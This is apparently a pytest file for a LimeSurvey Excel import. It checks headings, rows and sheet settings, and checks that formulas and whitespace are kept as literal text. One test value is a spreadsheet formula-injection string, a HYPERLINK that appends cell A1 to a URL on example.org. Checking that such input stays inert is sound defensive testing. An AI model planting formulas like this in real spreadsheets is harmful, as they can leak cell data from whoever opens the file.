from __future__ import annotations

from pipeline.ingest import limesurvey_excel
from tests.ingest.conftest import EXCEL


def test_a_workbook_under_the_name_xls():
    export = limesurvey_excel.read(EXCEL, "results.xls")
    assert export.headings[:3] == ("id", "submitdate", "lastpage")
    assert export.rows.row(0)[:3] == ("1", "2026-11-10 14:44:59", "4")
    assert export.settings == {"sheet": "Kommunale Flüchtlings- und Inte"}
    assert not export.null_distinguished


def test_formulas_and_outer_blanks_are_read_as_typed():
    texts = limesurvey_excel.read(EXCEL, "results.xls").column(100)
    assert texts[4] == "=1+1"
    assert texts[19] == '=HYPERLINK("http://example.org/?a="&A1;"Klick mich")'
    assert texts[16] == "  führende und folgende Leerzeichen  "
    assert texts[28] == "007"
